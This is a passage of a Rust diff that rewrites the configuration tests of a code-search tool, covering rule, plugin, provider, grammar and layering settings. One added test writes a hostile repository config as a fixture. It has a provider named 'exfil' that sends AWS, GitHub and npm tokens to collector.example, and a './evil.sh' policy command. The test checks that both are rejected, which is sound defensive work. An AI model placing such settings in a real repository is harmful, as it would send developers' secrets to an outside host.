+        let normalized = raw.normalized();
+        assert_eq!(
+            normalized.rule_order,
+            vec!["path".to_string(), "natural_language".to_string()]
         );
+        assert_eq!(normalized.error_patterns, vec!["panic payload".to_string()]);
+        assert_eq!(normalized.path_extensions, vec![".rs".to_string()]);
+        assert_eq!(
+            normalized.symbol_kind_keywords,
+            vec!["fn".to_string(), "method".to_string()]
+        );
+        assert!(!normalized.enable_wrapped_quoted_error_literal);
     }
-    clamped
-}
 
-fn clamp_non_negative_f64_with_warning(value: f64, fallback: f64, field: &str) -> f64 {
-    if !value.is_finite() {
-        tracing::warn!(
-            field,
-            value,
-            fallback,
-            "invalid non-finite config value; falling back to default"
+    #[test]
+    fn promote_query_section_copies_missing_fields() {
+        let mut merged: toml::Value = toml::from_str(
+            r#"
+            [query]
+            freshness_policy = "strict"
+            ranking_explain_level = "basic"
+            max_response_bytes = 2048
+            "#,
+        )
+        .unwrap();
+
+        promote_query_section(&mut merged);
+        let search = merged.get("search").and_then(|v| v.as_table()).unwrap();
+        assert_eq!(
+            search
+                .get("freshness_policy")
+                .and_then(|v| v.as_str())
+                .unwrap(),
+            "strict"
         );
-        return fallback;
-    }
-    if value < 0.0 {
-        tracing::warn!(
-            field,
-            value,
-            fallback,
-            "config value below 0.0; falling back to default"
+        assert_eq!(
+            search
+                .get("ranking_explain_level")
+                .and_then(|v| v.as_str())
+                .unwrap(),
+            "basic"
+        );
+        assert_eq!(
+            search
+                .get("max_response_bytes")
+                .and_then(|v| v.as_integer())
+                .unwrap(),
+            2048
         );
-        return fallback;
     }
-    value
-}
 
-fn clamp_range_f64_with_warning(value: f64, min: f64, max: f64, fallback: f64, field: &str) -> f64 {
-    if !value.is_finite() {
-        tracing::warn!(
-            field,
-            value,
-            fallback,
-            "invalid non-finite config value; falling back to default"
+    #[test]
+    fn promote_semantic_section_copies_missing_fields() {
+        let mut merged: toml::Value = toml::from_str(
+            r#"
+            [search]
+            default_ref = "main"
+
+            [semantic]
+            mode = "hybrid"
+            ratio = 0.7
+
+            [semantic.rerank]
+            provider = "cohere"
+            timeout_ms = 1500
+            "#,
+        )
+        .unwrap();
+
+        promote_semantic_section(&mut merged);
+        let semantic = merged
+            .get("search")
+            .and_then(|v| v.get("semantic"))
+            .and_then(|v| v.as_table())
+            .unwrap();
+        assert_eq!(
+            semantic.get("mode").and_then(|v| v.as_str()),
+            Some("hybrid")
         );
-        return fallback;
-    }
-    if value < min || value > max {
-        tracing::warn!(
-            field,
-            value,
-            min,
-            max,
-            fallback,
-            "config value out of range; falling back to default"
+        assert_eq!(semantic.get("ratio").and_then(|v| v.as_float()), Some(0.7));
+        let rerank = semantic.get("rerank").and_then(|v| v.as_table()).unwrap();
+        assert_eq!(
+            rerank.get("provider").and_then(|v| v.as_str()),
+            Some("cohere")
         );
-        return fallback;
     }
-    value
-}
 
-fn clamp_min_usize_with_warning(value: usize, min: usize, fallback: usize, field: &str) -> usize {
-    if value < min {
-        tracing::warn!(
-            field,
-            value,
-            min,
-            fallback,
-            "config value below minimum; falling back to default"
+    #[test]
+    fn telemetry_is_off_by_default_and_blank_endpoint_is_dropped() {
+        assert!(!Config::default().telemetry.enabled);
+
+        let temp = tempdir().unwrap();
+        let config_path = temp.path().join("config.toml");
+        std::fs::write(
+            &config_path,
+            r#"
+            [telemetry]
+            enabled = true
+            endpoint = "   "
+            "#,
+        )
+        .unwrap();
+
+        let loaded = Config::load_with_file(None, Some(&config_path)).unwrap();
+        assert!(loaded.telemetry.enabled);
+        assert_eq!(loaded.telemetry.endpoint, None);
+    }
+
+    #[test]
+    fn rule_overrides_load_by_id() {
+        let temp = tempdir().unwrap();
+        let config_path = temp.path().join("config.toml");
+        std::fs::write(
+            &config_path,
+            r#"
+            [rules."go/time-tick-leak"]
+            enabled = false
+
+            [rules."go/append-result-discarded"]
+            severity = "error"
+
+            [check]
+            profile = "lenient"
+            ratchet = true
+            "#,
+        )
+        .unwrap();
+
+        let loaded = Config::load_with_file(None, Some(&config_path)).unwrap();
+        assert_eq!(loaded.rules["go/time-tick-leak"].enabled, Some(false));
+        assert_eq!(loaded.rules["go/time-tick-leak"].severity, None);
+        assert_eq!(
+            loaded.rules["go/append-result-discarded"]
+                .severity
+                .as_deref(),
+            Some("error")
         );
-        fallback
-    } else {
-        value
+        assert_eq!(loaded.check.profile.as_deref(), Some("lenient"));
+        assert!(loaded.check.ratchet);
     }
-}
 
-fn clamp_min_u64_with_warning(value: u64, min: u64, fallback: u64, field: &str) -> u64 {
-    if value < min {
-        tracing::warn!(
-            field,
-            value,
-            min,
-            fallback,
-            "config value below minimum; falling back to default"
+    #[test]
+    fn deadcode_allowlist_loads() {
+        let temp = tempdir().unwrap();
+        let config_path = temp.path().join("config.toml");
+        std::fs::write(
+            &config_path,
+            r#"
+            [deadcode]
+            allow = ["*Handler", "internal/generated/**"]
+            "#,
+        )
+        .unwrap();
+
+        let loaded = Config::load_with_file(None, Some(&config_path)).unwrap();
+        assert_eq!(
+            loaded.deadcode.allow,
+            vec!["*Handler".to_string(), "internal/generated/**".to_string()]
         );
-        fallback
-    } else {
-        value
+        assert!(!loaded.deadcode.include_exported);
+        assert!(!loaded.deadcode.unused_exports);
+        assert!(Config::default().deadcode.allow.is_empty());
     }
-}
 
-fn expand_tilde(path: &str) -> String {
-    if path.starts_with('~')
-        && let Some(home) = dirs::home_dir()
-    {
-        return path.replacen('~', &home.to_string_lossy(), 1);
-    }
-    path.to_string()
-}
+    #[test]
+    fn routing_teams_load() {
+        let temp = tempdir().unwrap();
+        let config_path = temp.path().join("config.toml");
+        std::fs::write(
+            &config_path,
+            r#"
+            [routing]
+            codeowners = "OWNERS"
 
-#[cfg(test)]
-mod tests {
-    use super::*;
-    use std::sync::{Mutex, OnceLock};
-    use tempfile::tempdir;
+            [routing.teams]
+            "@platform-team" = ["@alice", "bob@example.com"]
+            "#,
+        )
+        .unwrap();
 
-    fn env_test_lock() -> &'static Mutex<()> {
-        static ENV_TEST_LOCK: OnceLock<Mutex<()>> = OnceLock::new();
-        ENV_TEST_LOCK.get_or_init(|| Mutex::new(()))
+        let loaded = Config::load_with_file(None, Some(&config_path)).unwrap();
+        assert_eq!(loaded.routing.codeowners.as_deref(), Some("OWNERS"));
+        assert_eq!(
+            loaded.routing.teams["@platform-team"],
+            vec!["@alice".to_string(), "bob@example.com".to_string()]
+        );
+        assert!(Config::default().routing.teams.is_empty());
     }
 
     #[test]
-    fn normalize_freshness_policy_values() {
-        assert_eq!(normalize_freshness_policy("strict"), "strict");
-        assert_eq!(normalize_freshness_policy("BALANCED"), "balanced");
-        assert_eq!(normalize_freshness_policy("bestEffort"), "best_effort");
-        assert_eq!(normalize_freshness_policy("unknown"), "balanced");
-    }
+    fn arch_rules_file_loads() {
+        let temp = tempdir().unwrap();
+        let rules_path = temp.path().join("rules.toml");
+        assert!(matches!(
+            ArchRulesFile::load(&rules_path),
+            Err(ConfigError::NotFound { .. })
+        ));
+        std::fs::write(
+            &rules_path,
+            r#"
+            [[rule]]
+            name = "handlers"
+            from = "**/handlers"
+            may_call = ["**/auth"]
+            via = "interface"
+
+            [[rule]]
+            name = "domain"
+            from = "domain/**"
+            must_not_import = ["infra/**"]
+            "#,
+        )
+        .unwrap();
 
-    #[test]
-    fn normalize_ranking_explain_level_values() {
-        assert_eq!(normalize_ranking_explain_level("off"), "off");
-        assert_eq!(normalize_ranking_explain_level("BASIC"), "basic");
-        assert_eq!(normalize_ranking_explain_level("full"), "full");
-        assert_eq!(normalize_ranking_explain_level("unknown"), "off");
+        let loaded = ArchRulesFile::load(&rules_path).unwrap();
+        assert_eq!(loaded.rules.len(), 2);
+        assert_eq!(
+            loaded.rules[0].may_call.as_deref(),
+            Some(&["**/auth".to_string()][..])
+        );
+        assert_eq!(loaded.rules[0].via.as_deref(), Some("interface"));
+        assert!(loaded.rules[1].may_call.is_none());
+        assert_eq!(loaded.rules[1].must_not_import, ["infra/**"]);
     }
 
     #[test]
-    fn normalize_semantic_mode_values() {
-        assert_eq!(normalize_semantic_mode("off"), "off");
-        assert_eq!(normalize_semantic_mode("shadow"), "rerank_only");
-        assert_eq!(normalize_semantic_mode("ENABLED"), "hybrid");
-        assert_eq!(normalize_semantic_mode("unknown"), "off");
+    fn summarize_backend_loads_and_defaults_to_heuristic() {
+        let temp = tempdir().unwrap();
+        let config_path = temp.path().join("config.toml");
+        std::fs::write(
+            &config_path,
+            r#"
+            [summarize]
+            backend = "llama.cpp"
+            endpoint = "http://127.0.0.1:8080/v1"
+            model = "qwen2.5-coder"
+            "#,
+        )
+        .unwrap();
+
+        let loaded = Config::load_with_file(None, Some(&config_path)).unwrap();
+        assert_eq!(loaded.summarize.backend(), "openai-compatible");
+        assert_eq!(loaded.summarize.model.as_deref(), Some("qwen2.5-coder"));
+        assert_eq!(Config::default().summarize.backend(), "heuristic");
     }
 
     #[test]
-    fn normalize_policy_mode_values() {
-        assert_eq!(normalize_policy_mode("strict"), "strict");
-        assert_eq!(normalize_policy_mode("BALANCED"), "balanced");
-        assert_eq!(normalize_policy_mode("audit"), "audit_only");
-        assert_eq!(normalize_policy_mode("unknown"), "balanced");
+    fn named_providers_configure_embedding_and_summarize() {
+        let temp = tempdir().unwrap();
+        let config_path = temp.path().join("config.toml");
+        std::fs::write(
+            &config_path,
+            r#"
+            [providers.gateway]
+            endpoint = "https://inference.example.internal/v1"
+            api_key_env = "GATEWAY_TOKEN"
+            auth_header = "x-api-key"
+            requests_per_minute = 600
+            batch_size = 64
+
+            [providers.offline]
+            kind = "fake"
+
+            [search.semantic.embedding]
+            provider = "gateway"
+            model = "bge-m3"
+            dimensions = 1024
+            timeout_ms = 2000
+
+            [summarize]
+            backend = "offline"
+            "#,
+        )
+        .unwrap();
+
+        let loaded = Config::load_with_file(None, Some(&config_path)).unwrap();
+        let embedding = &loaded.search.semantic.embedding;
+        assert_eq!(embedding.provider, "openai-compatible");
+        assert_eq!(
+            embedding.endpoint.as_deref(),
+            Some("https://inference.example.internal/v1")
+        );
+        assert_eq!(embedding.api_key_env.as_deref(), Some("GATEWAY_TOKEN"));
+        assert_eq!(embedding.auth_header.as_deref(), Some("x-api-key"));
+        assert_eq!(embedding.requests_per_minute, Some(600));
+        assert_eq!(embedding.batch_size, 64);
+        assert_eq!(embedding.timeout_ms, Some(2000));
+        assert_eq!(embedding.model, "bge-m3");
+        assert_eq!(loaded.summarize.backend(), "fake");
+        assert_eq!(loaded.summarize.endpoint, None);
     }
 
     #[test]
-    fn search_policy_override_resolution_respects_allowlist() {
-        let mut config = SearchConfig::default();
-        config.policy.mode = "balanced".to_string();
-        config.policy.allow_request_override = true;
-        config.policy.allowed_override_modes = vec!["off".to_string(), "audit_only".to_string()];
-
-        let (effective, warnings) = config
-            .resolve_policy_mode(Some(PolicyMode::AuditOnly))
-            .expect("audit_only should be allowed");
-        assert_eq!(effective, PolicyMode::AuditOnly);
-        assert!(!warnings.is_empty());
+    fn hotspots_window_loads() {
+        let temp = tempdir().unwrap();
+        let config_path = temp.path().join("config.toml");
+        std::fs::write(
+            &config_path,
+            r#"
+            [hotspots]
+            since = "3 months ago"
+            "#,
+        )
+        .unwrap();
 
-        let err = config
-            .resolve_policy_mode(Some(PolicyMode::Strict))
-            .expect_err("strict should be denied by allowlist");
-        assert!(err.contains("not allowed"));
+        let loaded = Config::load_with_file(None, Some(&config_path)).unwrap();
+        assert_eq!(loaded.hotspots.since.as_deref(), Some("3 months ago"));
+        assert!(Config::default().hotspots.since.is_none());
     }
 
     #[test]
-    fn normalize_semantic_provider_values() {
-        assert_eq!(normalize_embedding_profile("high_quality"), "high_quality");
-        assert_eq!(normalize_embedding_profile("unknown"), "fast_local");
-        assert_eq!(normalize_embedding_provider("VOYAGE"), "voyage");
-        assert_eq!(normalize_embedding_provider(""), "local");
-        assert_eq!(normalize_rerank_provider("cohere"), "cohere");
-        assert_eq!(normalize_rerank_provider("oops"), "none");
+    fn history_deepen_loads() {
+        let temp = tempdir().unwrap();
+        let config_path = temp.path().join("config.toml");
+        std::fs::write(
+            &config_path,
+            r#"
+            [history]
+            deepen = 50
+            "#,
+        )
+        .unwrap();
+
+        let loaded = Config::load_with_file(None, Some(&config_path)).unwrap();
+        assert_eq!(loaded.history.deepen, 50);
+        assert_eq!(Config::default().history.deepen, 0);
     }
 
     #[test]
-    fn normalize_intent_policy_values() {
-        assert_eq!(
-            normalize_intent_rule_order(&[
-                "path".to_string(),
-                "unknown".to_string(),
-                "path".to_string(),
-            ]),
-            vec!["path".to_string(), "natural_language".to_string()]
-        );
+    fn taint_sources_and_sinks_load() {
+        let temp = tempdir().unwrap();
+        let config_path = temp.path().join("config.toml");
+        std::fs::write(
+            &config_path,
+            r#"
+            [taint]
+            sources = ["ctx.Param"]
+
+            [taint.sinks]
+            sql = ["store.RawQuery"]
+            "#,
+        )
+        .unwrap();
+
+        let loaded = Config::load_with_file(None, Some(&config_path)).unwrap();
+        assert_eq!(loaded.taint.sources, vec!["ctx.Param".to_string()]);
         assert_eq!(
-            normalize_intent_error_patterns(&[
-                "".to_string(),
-                "panic payload".to_string(),
-                "panic payload".to_string(),
-            ]),
-            vec!["panic payload".to_string()]
+            loaded.taint.sinks["sql"],
+            vec!["store.RawQuery".to_string()]
         );
+        assert!(loaded.taint.sanitizers.is_empty());
+    }
+
+    #[test]
+    fn index_webhooks_load() {
+        let temp = tempdir().unwrap();
+        let config_path = temp.path().join("config.toml");
+        std::fs::write(
+            &config_path,
+            r#"
+            [index]
+            webhooks = ["https://dash.example.com/hooks/cruxe"]
+            "#,
+        )
+        .unwrap();
+
+        let loaded = Config::load_with_file(None, Some(&config_path)).unwrap();
         assert_eq!(
-            normalize_intent_path_extensions(&[
-                "rs".to_string(),
-                " .KT ".to_string(),
-                "rs".to_string(),
-                "".to_string(),
-            ]),
-            vec![".rs".to_string(), ".kt".to_string()]
+            loaded.index.webhooks,
+            vec!["https://dash.example.com/hooks/cruxe".to_string()]
         );
+        assert_eq!(loaded.index.max_file_size, default_max_file_size());
+        assert!(Config::default().index.webhooks.is_empty());
+    }
+
+    #[test]
+    fn dependency_indexing_defaults_to_none_and_parses_its_table() {
+        let config = Config::default();
+        assert_eq!(config.index.dependencies.mode_typed(), DependencyMode::None);
+        assert_eq!(config.index.dependencies.depth, 1);
+
+        let parsed: Config = toml::from_str(
+            r#"
+            [index.dependencies]
+            mode = "signatures"
+            depth = 0
+            "#,
+        )
+        .unwrap();
         assert_eq!(
-            normalize_intent_symbol_kind_keywords(&[
-                "Fn".to_string(),
-                "".to_string(),
-                "METHOD".to_string(),
-                "fn".to_string(),
-            ]),
-            vec!["fn".to_string(), "method".to_string()]
+            parsed.index.dependencies.mode_typed(),
+            DependencyMode::Signatures
         );
+        assert_eq!(parsed.index.dependencies.depth, 0);
+        assert_eq!(parsed.index.max_file_size, constants::MAX_FILE_SIZE);
+        assert!(!parsed.index.submodules);
+
+        let unknown = DependencyIndexConfig {
+            mode: "everything".to_string(),
+            depth: 1,
+        };
+        assert_eq!(unknown.mode_typed(), DependencyMode::None);
     }
 
     #[test]
-    fn ranking_signal_budget_normalization_preserves_safe_ranges() {
-        let raw = RankingSignalBudgetConfig {
-            exact_match: RankingSignalBudgetRange {
-                min: 5.0,
-                max: 1.0,
-                default: 9.0,
-            },
-            qualified_name: RankingSignalBudgetRange {
-                min: 0.0,
-                max: 1.0,
-                default: 2.5,
-            },
-            path_affinity: default_budget_path_affinity(),
-            definition_boost: default_budget_definition_boost(),
-            kind_match: default_budget_kind_match(),
-            test_file_penalty: default_budget_test_file_penalty(),
-            file_centrality_boost: default_budget_file_centrality_boost(),
-            secondary_cap_when_exact: default_budget_secondary_cap_when_exact(),
-        };
-        let normalized = raw.normalized();
-        assert_eq!(normalized.exact_match.min, 0.0);
-        assert_eq!(normalized.exact_match.max, 8.0);
-        assert_eq!(normalized.exact_match.default, 8.0);
-        assert_eq!(normalized.qualified_name.min, 0.0);
-        assert_eq!(normalized.qualified_name.max, 1.0);
-        assert_eq!(normalized.qualified_name.default, 1.0);
+    fn symlinks_default_to_following_within_the_repository() {
+        let config = Config::default();
         assert_eq!(
-            RankingBudgetNormalizationCode::InvertedRange.as_str(),
-            "inverted_range"
+            config.index.symlink_policy(),
+            SymlinkPolicy::FollowWithinRoot
         );
-        assert_eq!(
-            RankingBudgetNormalizationCode::DefaultOutOfRange.as_str(),
-            "default_out_of_range"
+
+        let parsed: Config = toml::from_str(
+            r#"
+            [index]
+            symlinks = "follow"
+            "#,
+        )
+        .unwrap();
+        assert_eq!(parsed.index.symlink_policy(), SymlinkPolicy::Follow);
+        assert_eq!("skip".parse(), Ok(SymlinkPolicy::Skip));
+        assert_eq!(
+            "follow_within_root".parse(),
+            Ok(SymlinkPolicy::FollowWithinRoot)
         );
+        assert_eq!("sometimes".parse::<SymlinkPolicy>(), Err(()));
     }
 
     #[test]
-    fn parse_env_bool_supports_common_truthy_falsey_values() {
-        assert_eq!(parse_env_bool("true"), Some(true));
-        assert_eq!(parse_env_bool("TRUE"), Some(true));
-        assert_eq!(parse_env_bool(" yes "), Some(true));
-        assert_eq!(parse_env_bool("on"), Some(true));
-        assert_eq!(parse_env_bool("1"), Some(true));
-
-        assert_eq!(parse_env_bool("false"), Some(false));
-        assert_eq!(parse_env_bool("FALSE"), Some(false));
-        assert_eq!(parse_env_bool(" no "), Some(false));
-        assert_eq!(parse_env_bool("off"), Some(false));
-        assert_eq!(parse_env_bool("0"), Some(false));
-
-        assert_eq!(parse_env_bool("maybe"), None);
+    fn plugins_load_by_name() {
+        let parsed: Config = toml::from_str(
+            r#"
+            [plugins.naming]
+            command = ["python3", "tools/naming.py"]
+            languages = ["go"]
+            timeout_ms = 2000
+
+            [plugins.legacy]
+            command = ["legacy-rules"]
+            disabled = true
+            "#,
+        )
+        .unwrap();
+        let naming = &parsed.plugins["naming"];
+        assert_eq!(naming.command, ["python3", "tools/naming.py"]);
+        assert!(naming.wants("go"));
+        assert!(!naming.wants("rust"));
+        assert!(!naming.ast);
+        assert_eq!(naming.timeout_ms, Some(2000));
+        assert!(!parsed.plugins["legacy"].wants("go"));
+        assert!(Config::default().plugins.is_empty());
     }
 
     #[test]
-    fn parse_ranking_budget_env_default_accepts_finite_numbers_only() {
-        assert_eq!(
-            parse_ranking_budget_env_default(
-                "1.25",
-                "search.ranking_signal_budgets.exact_match.default",
-                "CRUXE_SEARCH_RANKING_BUDGET_EXACT_MATCH_DEFAULT"
-            ),
-            Some(1.25)
-        );
+    fn grammars_load_by_language() {
+        let parsed: Config = toml::from_str(
+            r#"
+            [grammars.hcl]
+            library = "grammars/hcl.wasm"
+            extensions = ["hcl", "tf"]
+            tags_query = "grammars/hcl-tags.scm"
+
+            [grammars.my-dsl]
+            library = "grammars/dsl.wasm"
+            symbol = "tree_sitter_dsl"
+            "#,
+        )
+        .unwrap();
+        let hcl = &parsed.grammars["hcl"];
+        assert_eq!(hcl.extensions, ["hcl", "tf"]);
+        assert_eq!(hcl.symbol_for("hcl"), "tree_sitter_hcl");
         assert_eq!(
-            parse_ranking_budget_env_default(
-                "NaN",
-                "search.ranking_signal_budgets.exact_match.default",
-                "CRUXE_SEARCH_RANKING_BUDGET_EXACT_MATCH_DEFAULT"
-            ),
-            None
+            parsed.grammars["my-dsl"].symbol_for("my-dsl"),
+            "tree_sitter_dsl"
         );
         assert_eq!(
-            parse_ranking_budget_env_default(
-                "oops",
-                "search.ranking_signal_budgets.exact_match.default",
-                "CRUXE_SEARCH_RANKING_BUDGET_EXACT_MATCH_DEFAULT"
-            ),
-            None
+            GrammarConfig::default().symbol_for("my-dsl"),
+            "tree_sitter_my_dsl"
         );
     }
 
     #[test]
-    fn env_override_updates_file_centrality_budget_default() {
-        let _guard = env_test_lock()
-            .lock()
-            .expect("env test lock should not be poisoned");
-        let key = "CRUXE_SEARCH_RANKING_BUDGET_FILE_CENTRALITY_BOOST_DEFAULT";
-        let previous = std::env::var(key).ok();
+    fn federated_indexes_load_by_name() {
+        let parsed: Config = toml::from_str(
+            r#"
+            [federation.billing]
+            workspace = "../billing"
 
-        // SAFETY: test is serialized by env_test_lock(), so no concurrent env mutation.
-        unsafe {
-            std::env::set_var(key, "0.4");
-        }
-        let mut config = Config::default();
-        apply_env_overrides(&mut config);
-        assert!(
-            (config
-                .search
-                .ranking_signal_budgets
-                .file_centrality_boost
-                .default
-                - 0.4)
-                .abs()
-                < 1e-9
+            [federation.ledger]
+            workspace = "/src/ledger"
+            ref = "release"
+            "#,
+        )
+        .unwrap();
+        assert_eq!(parsed.federation["billing"].workspace, "../billing");
+        assert_eq!(parsed.federation["billing"].r#ref, None);
+        assert_eq!(
+            parsed.federation["ledger"].r#ref.as_deref(),
+            Some("release")
         );
+    }
 
-        if let Some(value) = previous {
-            // SAFETY: test is serialized by env_test_lock(), so no concurrent env mutation.
-            unsafe {
-                std::env::set_var(key, value);
-            }
-        } else {
-            // SAFETY: test is serialized by env_test_lock(), so no concurrent env mutation.
-            unsafe {
-                std::env::remove_var(key);
-            }
-        }
+    #[test]
+    fn minified_and_binary_files_are_skipped_by_default() {
+        let config = Config::default();
+        assert_eq!(config.index.max_line_length, 5_000);
+        assert!(config.index.skip_binary);
+
+        let parsed: Config = toml::from_str(
+            r#"
+            [index]
+            max_line_length = 0
+            skip_binary = false
+            "#,
+        )
+        .unwrap();
+        assert_eq!(parsed.index.max_line_length, 0);
+        assert!(!parsed.index.skip_binary);
     }
 
     #[test]
-    fn normalize_detect_secrets_plugins_filters_unknown_and_canonicalizes_aliases() {
+    fn build_configurations_default_to_linux_amd64() {
+        let parsed: Config = toml::from_str(
+            r#"
+            [[build.configurations]]
+            name = "integration"
+            tags = ["integration"]
+
+            [[build.configurations]]
+            name = "windows"
+            goos = "windows"
+            "#,
+        )
+        .unwrap();
+        let integration = parsed.build.get("integration").unwrap();
         assert_eq!(
-            normalize_detect_secrets_plugins(&[
-                " AWSKeyDetector ".to_string(),
-                "github".to_string(),
-                "unknown".to_string(),
-                "privatekeydetector".to_string(),
-                "aws".to_string(),
-                "slackdetector".to_string(),
-            ]),
-            vec![
-                "aws".to_string(),
-                "github".to_string(),
-                "privatekey".to_string(),
-                "slack".to_string(),
-            ]
+            (integration.goos.as_str(), integration.goarch.as_str()),
+            ("linux", "amd64")
         );
+        assert_eq!(integration.tags, ["integration"]);
+        assert_eq!(parsed.build.get("windows").unwrap().goos, "windows");
+        assert!(parsed.build.get("darwin").is_none());
+        assert!(Config::default().build.configurations.is_empty());
     }
 
     #[test]
-    fn search_intent_config_normalized_produces_canonical_values() {
-        let raw = SearchIntentConfig {
-            rule_order: vec![
-                " PATH ".to_string(),
-                "path".to_string(),
-                "unknown".to_string(),
-            ],
-            error_patterns: vec![
-                "".to_string(),
-                "panic payload".to_string(),
-                "panic payload".to_string(),
-            ],
-            path_extensions: vec!["rs".to_string(), " .RS ".to_string()],
-            symbol_kind_keywords: vec!["Fn".to_string(), "fn".to_string(), "METHOD".to_string()],
-            enable_wrapped_quoted_error_literal: false,
-        };
+    fn language_settings_parse_per_language() {
+        let parsed: Config = toml::from_str(
+            r#"
+            [languages.python]
+            virtualenv = ".venv"
+            source_roots = ["src"]
 
-        let normalized = raw.normalized();
-        assert_eq!(
-            normalized.rule_order,
-            vec!["path".to_string(), "natural_language".to_string()]
-        );
-        assert_eq!(normalized.error_patterns, vec!["panic payload".to_string()]);
-        assert_eq!(normalized.path_extensions, vec![".rs".to_string()]);
+            [languages.typescript]
+            tsconfig = "web/tsconfig.json"
+
+            [languages.go]
+            tags = ["integration"]
+            "#,
+        )
+        .unwrap();
+        let languages = &parsed.languages;
+        assert_eq!(languages.python.virtualenv.as_deref(), Some(".venv"));
+        assert_eq!(languages.python.source_roots, ["src"]);
         assert_eq!(
-            normalized.symbol_kind_keywords,
-            vec!["fn".to_string(), "method".to_string()]
+            languages.typescript.tsconfig.as_deref(),
+            Some("web/tsconfig.json")
         );
-        assert!(!normalized.enable_wrapped_quoted_error_literal);
+        let go = languages.go.build().unwrap();
+        assert_eq!((go.goos.as_str(), go.goarch.as_str()), ("linux", "amd64"));
+        assert_eq!(go.tags, ["integration"]);
+        assert!(Config::default().languages.go.build().is_none());
     }
 
     #[test]
-    fn promote_query_section_copies_missing_fields() {
-        let mut merged: toml::Value = toml::from_str(
+    fn project_yaml_layers_between_project_toml_and_explicit_file() {
+        let temp = tempdir().unwrap();
+        let root = temp.path();
+        std::fs::create_dir_all(root.join(".cruxe")).unwrap();
+        std::fs::write(
+            root.join(constants::PROJECT_CONFIG_FILE),
             r#"
-            [query]
-            freshness_policy = "strict"
-            ranking_explain_level = "basic"
-            max_response_bytes = 2048
+            [index]
+            languages = ["rust"]
+            max_file_size = 1024
+
+            [output]
+            format = "ndjson"
             "#,
         )
         .unwrap();
+        std::fs::write(
+            root.join(".cruxe.yaml"),
+            r#"
+index:
+  languages: [go]
+  include: ["cmd/", "internal/**"]
+  exclude: ["**/*_mock.go"]
+rules:
+  go/time-tick-leak:
+    enabled: false
+deadcode:
+  allow: ["*Handler"]
+output:
+  format: json
+"#,
+        )
+        .unwrap();
 
-        promote_query_section(&mut merged);
-        let search = merged.get("search").and_then(|v| v.as_table()).unwrap();
+        let loaded = Config::load_with_file(Some(root), None).unwrap();
+        assert_eq!(loaded.index.languages, vec!["go".to_string()]);
+        assert_eq!(loaded.index.max_file_size, 1024);
         assert_eq!(
-            search
-                .get("freshness_policy")
-                .and_then(|v| v.as_str())
-                .unwrap(),
-            "strict"
+            loaded.index.include,
+            vec!["cmd/".to_string(), "internal/**".to_string()]
         );
+        assert_eq!(loaded.index.exclude, vec!["**/*_mock.go".to_string()]);
+        assert_eq!(loaded.rules["go/time-tick-leak"].enabled, Some(false));
+        assert_eq!(loaded.deadcode.allow, vec!["*Handler".to_string()]);
+        assert_eq!(loaded.output.format.as_deref(), Some("json"));
+
+        let explicit = root.join("ci.toml");
+        std::fs::write(&explicit, "[output]\nformat = \"text\"\n").unwrap();
+        let loaded = Config::load_with_file(Some(root), Some(&explicit)).unwrap();
+        assert_eq!(loaded.output.format.as_deref(), Some("text"));
+        assert_eq!(loaded.index.languages, vec!["go".to_string()]);
+        assert!(Config::default().output.format.is_none());
+    }
+
+    #[test]
+    fn plugins_are_only_read_from_trusted_config() {
+        let temp = tempdir().unwrap();
+        let root = temp.path().join("repo");
+        std::fs::create_dir_all(root.join(".cruxe")).unwrap();
+        std::fs::write(
+            root.join(constants::PROJECT_CONFIG_FILE),
+            "[plugins.lint]\ncommand = [\"./lint.sh\"]\n\n[index]\nmax_file_size = 1024\n",
+        )
+        .unwrap();
+        std::fs::write(
+            root.join(".cruxe.yaml"),
+            "plugins:\n  fmt:\n    command: [\"./fmt.sh\"]\n",
+        )
+        .unwrap();
+        let loaded = Config::load_with_file(Some(&root), None).unwrap();
+        assert!(loaded.plugins.is_empty());
+        assert_eq!(loaded.index.max_file_size, 1024);
+
+        let explicit = temp.path().join("ci.toml");
+        std::fs::write(&explicit, "[plugins.lint]\ncommand = [\"team-lint\"]\n").unwrap();
+        let loaded = Config::load_with_file(Some(&root), Some(&explicit)).unwrap();
+        assert_eq!(loaded.plugins.keys().collect::<Vec<_>>(), ["lint"]);
+        assert_eq!(loaded.plugins["lint"].command, ["team-lint"]);
+    }
+
+    #[test]
+    fn repo_config_cannot_name_endpoints_env_vars_or_commands() {
+        let temp = tempdir().unwrap();
+        let root = temp.path().join("repo");
+        std::fs::create_dir_all(root.join(".cruxe")).unwrap();
+        std::fs::write(
+            root.join(constants::PROJECT_CONFIG_FILE),
+            r#"
+            [index]
+            webhooks = ["https://collector.example/hook"]
+            max_file_size = 1024
+
+            [providers.exfil]
+            endpoint = "https://collector.example/v1"
+            api_key_env = "AWS_SECRET_ACCESS_KEY"
+
+            [search.semantic.embedding]
+            provider = "exfil"
+            endpoint = "https://collector.example/v1"
+            api_key_env = "AWS_SECRET_ACCESS_KEY"
+
+            [search.policy.opa]
+            command = "./evil.sh"
+
+            [taint.sinks]
+            command = ["shell.Run"]
+            "#,
+        )
+        .unwrap();
+        std::fs::write(
+            root.join(".cruxe.yaml"),
+            r#"
+summarize:
+  endpoint: https://collector.example/v1
+  api_key_env: GITHUB_TOKEN
+remote_cache:
+  url: https://collector.example/cache
+  token_env: NPM_TOKEN
+routing:
+  webhooks:
+    "@team": https://collector.example/team
+"#,
+        )
+        .unwrap();
+
+        let loaded = Config::load_with_file(Some(&root), None).unwrap();
+        assert!(loaded.index.webhooks.is_empty());
+        assert_eq!(loaded.index.max_file_size, 1024);
+        assert!(loaded.providers.values().all(|p| p.endpoint.is_none()));
+        assert!(loaded.providers.values().all(|p| p.api_key_env.is_none()));
+        let embedding = &loaded.search.semantic.embedding;
+        assert_eq!(embedding.endpoint, None);
+        assert_eq!(embedding.api_key_env, None);
         assert_eq!(
-            search
-                .get("ranking_explain_level")
-                .and_then(|v| v.as_str())
-                .unwrap(),
-            "basic"
+            loaded.search.policy.opa.command,
+            Config::default().search.policy.opa.command
         );
+        assert_eq!(loaded.summarize.endpoint, None);
+        assert_eq!(loaded.summarize.api_key_env, None);
+        assert_eq!(loaded.remote_cache.url, None);
+        assert_eq!(loaded.remote_cache.token_env, None);
+        assert!(loaded.routing.webhooks.is_empty());
+        assert_eq!(loaded.taint.sinks["command"], ["shell.Run"]);
+
+        let explicit = temp.path().join("ci.toml");
+        std::fs::write(
+            &explicit,
+            "[summarize]\nendpoint = \"http://127.0.0.1:8080/v1\"\napi_key_env = \"LLM_TOKEN\"\n",
+        )
+        .unwrap();
+        let loaded = Config::load_with_file(Some(&root), Some(&explicit)).unwrap();
         assert_eq!(
-            search
-                .get("max_response_bytes")
-                .and_then(|v| v.as_integer())
-                .unwrap(),
